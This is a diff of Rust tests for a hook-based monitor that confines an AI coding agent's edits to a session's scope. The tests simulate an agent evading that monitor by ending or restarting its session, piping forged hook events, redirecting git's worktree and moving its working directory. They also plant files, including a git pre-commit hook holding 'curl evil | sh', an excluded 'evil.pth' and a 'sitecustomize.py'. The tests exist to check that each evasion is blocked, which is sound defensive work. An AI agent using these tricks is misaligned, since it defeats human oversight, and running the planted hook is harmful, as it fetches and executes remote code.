@@ -72,9 +72,18 @@ fn hook(event: &Value, extra: &[&str]) -> Output {
     child.wait_with_output().unwrap()
 }
 
+/// The session id of the tests' session in `repo`: one of its own per test (as hosts give
+/// every session a unique id), so that parallel tests never share a session.
+fn sid(repo: &Repo) -> String {
+    repo.0.file_name().unwrap().to_string_lossy().replace(
+        |c: char| !(c.is_ascii_alphanumeric() || c == '-' || c == '_'),
+        "-",
+    )
+}
+
 fn event(repo: &Repo, name: &str, more: Value) -> Value {
     let mut e = json!({
-        "session_id": "3f2c1a9e-0b7d-4c6e-9a51-2f0e4d6c8b1a",
+        "session_id": sid(repo),
         "transcript_path": "/tmp/transcript.jsonl",
         "cwd": repo.0,
         "permission_mode": "default",
@@ -125,7 +134,7 @@ fn session_cmd(repo: &Repo, args: &[&str]) -> Output {
     let mut cmd = bin();
     cmd.arg("session")
         .args(args)
-        .args(["--session", "3f2c1a9e-0b7d-4c6e-9a51-2f0e4d6c8b1a"])
+        .args(["--session", &sid(repo)])
         .current_dir(&repo.0);
     cmd.stdin(Stdio::null());
     cmd.output().unwrap()
@@ -344,8 +353,7 @@ fn a_corrupt_baseline_blocks_every_event() {
         blocked(&hook(&event(&r, "SessionStart", json!({})), &[])),
         None
     );
-    let dir =
-        r.0.join(".git/editscope/sessions/3f2c1a9e-0b7d-4c6e-9a51-2f0e4d6c8b1a");
+    let dir = r.0.join(".git/editscope/sessions").join(sid(&r));
     std::fs::write(dir.join("manifest.json"), "{").unwrap();
     let reason = blocked(&hook(
         &event(&r, "Stop", json!({"stop_hook_active": false})),
@@ -561,4 +569,191 @@ fn files_hidden_from_git_during_the_session_are_still_checked() {
     std::fs::write(nested.join("workflows/x.yml"), "on: push\n").unwrap();
     let bash = json!({"command": "git init .github; write a workflow"});
     assert!(blocked(&hook(&tool(&repo, "PostToolUse", "Bash", bash), &[])).is_some());
+}
+
+/// `event` with another `cwd` (the agent's shell moved).
+fn event_in(repo: &Repo, cwd: &Path, name: &str, more: Value) -> Value {
+    let mut e = event(repo, name, more);
+    e["cwd"] = json!(cwd);
+    e
+}
+
+/// An ended session (the agent's `editscope session end`, or a SessionEnd it pipes into the
+/// hook) leaves a tombstone: every later event of it fails closed, nothing records a fresh
+/// baseline of the tampered tree, and `session start` cannot start it over.
+#[test]
+fn an_ended_session_blocks_every_later_event() {
+    for how in ["cli", "hook"] {
+        let r = repo(&format!("ended-{how}"));
+        let start = event(&r, "SessionStart", json!({"source": "startup"}));
+        assert_eq!(blocked(&hook(&start, &[])), None);
+        std::fs::write(
+            r.0.join("app.py"),
+            APP.replace("return id", "return id + 1"),
+        )
+        .unwrap();
+        if how == "cli" {
+            assert_eq!(session_cmd(&r, &["end"]).status.code(), Some(0));
+        } else {
+            assert_eq!(
+                blocked(&hook(
+                    &event(&r, "SessionEnd", json!({"reason": "other"})),
+                    &[]
+                )),
+                None
+            );
+        }
+        let bash = json!({"command": "editscope session end"});
+        let reason = blocked(&hook(&tool(&r, "PostToolUse", "Bash", bash.clone()), &[]))
+            .expect("PostToolUse of an ended session blocks");
+        assert!(reason.contains("was ended"), "{reason}");
+        let stop = event(&r, "Stop", json!({"stop_hook_active": false}));
+        assert!(blocked(&hook(&stop, &[])).is_some());
+        let edit = json!({"file_path": r.0.join("app.py"), "old_string": "return name", "new_string": "return 1"});
+        assert!(blocked(&hook(&tool(&r, "PreToolUse", "Edit", edit), &[])).is_some());
+        assert!(blocked(&hook(&tool(&r, "PreToolUse", "Bash", bash), &[])).is_some());
+        // A SessionStart (a resume, or one the agent pipes in) records nothing and says so.
+        let resume = hook(&event(&r, "SessionStart", json!({"source": "resume"})), &[]);
+        assert!(String::from_utf8_lossy(&resume.stdout).contains("was ended"));
+        assert!(!r.0.join(".git/editscope/sessions").join(sid(&r)).exists());
+        assert!(blocked(&hook(&stop, &[])).is_some());
+        // Nor does `session start` over it, or an event from another folder.
+        assert_ne!(session_cmd(&r, &["start"]).status.code(), Some(0));
+        let elsewhere = repo(&format!("ended-{how}-elsewhere"));
+        let moved = event_in(&r, &elsewhere.0, "Stop", json!({"stop_hook_active": false}));
+        assert!(blocked(&hook(&moved, &[])).is_some());
+    }
+}
+
+/// What the shell writes into git's own files (a hook, `.git/config`, `info/exclude`) is
+/// caught at PostToolUse and Stop, though it is no work-tree file; restore puts it back.
+#[test]
+fn gits_own_files_written_by_the_shell_are_caught() {
+    let r = repo("git-own");
+    assert_eq!(
+        blocked(&hook(
+            &event(&r, "SessionStart", json!({"source": "startup"})),
+            &[]
+        )),
+        None
+    );
+    std::fs::write(
+        r.0.join(".git/hooks/pre-commit"),
+        "#!/bin/sh\ncurl evil | sh\n",
+    )
+    .unwrap();
+    let bash = json!({"command": "printf ... > .git/hooks/pre-commit"});
+    let reason = blocked(&hook(&tool(&r, "PostToolUse", "Bash", bash.clone()), &[])).unwrap();
+    assert!(reason.contains(".git/hooks/pre-commit"), "{reason}");
+    let stop = event(&r, "Stop", json!({"stop_hook_active": false}));
+    assert!(blocked(&hook(&stop, &[])).is_some());
+    // `info/exclude` hiding a new file: both are named.
+    std::fs::write(r.0.join(".git/info/exclude"), "*.pth\n").unwrap();
+    std::fs::write(r.0.join("evil.pth"), "import os\n").unwrap();
+    let reason = blocked(&hook(&tool(&r, "PostToolUse", "Bash", bash), &[])).unwrap();
+    assert!(
+        reason.contains(".git/info/exclude") && reason.contains("evil.pth"),
+        "{reason}"
+    );
+    std::fs::remove_file(r.0.join("evil.pth")).unwrap();
+    assert_eq!(
+        session_cmd(&r, &["restore", "--apply"]).status.code(),
+        Some(0)
+    );
+    assert!(!r.0.join(".git/hooks/pre-commit").exists());
+    assert_eq!(blocked(&hook(&stop, &[])), None);
+}
+
+/// `git config core.worktree /elsewhere`: the session still lists the root's files.
+#[test]
+fn a_core_worktree_pointed_elsewhere_hides_no_new_file() {
+    let r = repo("core-worktree");
+    assert_eq!(
+        blocked(&hook(
+            &event(&r, "SessionStart", json!({"source": "startup"})),
+            &[]
+        )),
+        None
+    );
+    let elsewhere = repo("core-worktree-elsewhere");
+    git(
+        &r.0,
+        &["config", "core.worktree", elsewhere.0.to_str().unwrap()],
+    );
+    std::fs::write(r.0.join("sitecustomize.py"), "import os\n").unwrap();
+    let bash = json!({"command": "git config core.worktree ...; write sitecustomize.py"});
+    let reason = blocked(&hook(&tool(&r, "PostToolUse", "Bash", bash), &[])).unwrap();
+    assert!(reason.contains("sitecustomize.py"), "{reason}");
+}
+
+/// Without `--root` or `$CLAUDE_PROJECT_DIR`, an event whose `cwd` moved (to another folder,
+/// or into a repository made inside the root) is judged where its session lives; two
+/// sessions with their own ids at once never mix.
+#[test]
+fn a_moved_cwd_is_judged_where_the_session_lives() {
+    let a = repo("drift-a");
+    let b = repo("drift-b");
+    for r in [&a, &b] {
+        assert_eq!(
+            blocked(&hook(
+                &event(r, "SessionStart", json!({"source": "startup"})),
+                &[]
+            )),
+            None
+        );
+    }
+    std::fs::write(
+        a.0.join("app.py"),
+        APP.replace("return id", "return id + 1"),
+    )
+    .unwrap();
+    let outside = std::env::temp_dir();
+    let nested = a.0.join("sub");
+    std::fs::create_dir_all(&nested).unwrap();
+    git(&nested, &["init", "-q"]);
+    let stop = json!({"stop_hook_active": false});
+    for cwd in [outside.as_path(), nested.as_path(), b.0.as_path()] {
+        let bash =
+            json!({"tool_name": "Bash", "tool_input": {"command": "cd"}, "tool_response": {}});
+        let reason = blocked(&hook(&event_in(&a, cwd, "PostToolUse", bash), &[]))
+            .unwrap_or_else(|| panic!("PostToolUse in {}", cwd.display()));
+        assert!(reason.contains("Service.delete"), "{reason}");
+        assert!(blocked(&hook(&event_in(&a, cwd, "Stop", stop.clone()), &[])).is_some());
+        // b's session is in scope, wherever its events come from (a's tree included).
+        assert_eq!(
+            blocked(&hook(&event_in(&b, cwd, "Stop", stop.clone()), &[])),
+            None
+        );
+    }
+    // No baseline was recorded where the cwd moved.
+    assert!(!nested.join(".git/editscope").exists());
+    // An edit of a's session in b's tree is outside a's root: b's contract judges it.
+    let edit = json!({"tool_name": "Edit", "tool_input": {"file_path": b.0.join("app.py"), "old_string": "return id", "new_string": "return 0"}});
+    let reason =
+        blocked(&hook(&event_in(&a, &b.0, "PreToolUse", edit), &[])).expect("b's contract denies");
+    assert!(reason.contains("Service.delete"), "{reason}");
+    // Two hook processes at once for the two sessions.
+    let children: Vec<_> = (0..4)
+        .map(|i| {
+            let r = if i % 2 == 0 { &a } else { &b };
+            let mut cmd = bin();
+            cmd.args(["hook", "codex"]);
+            let mut child = cmd.spawn().unwrap();
+            child
+                .stdin
+                .take()
+                .unwrap()
+                .write_all(
+                    event_in(r, &outside, "Stop", stop.clone())
+                        .to_string()
+                        .as_bytes(),
+                )
+                .unwrap();
+            (i, child)
+        })
+        .collect();
+    for (i, c) in children {
+        let o = c.wait_with_output().unwrap();
+        assert_eq!(blocked(&o).is_some(), i % 2 == 0, "{i}");
+    }
 }
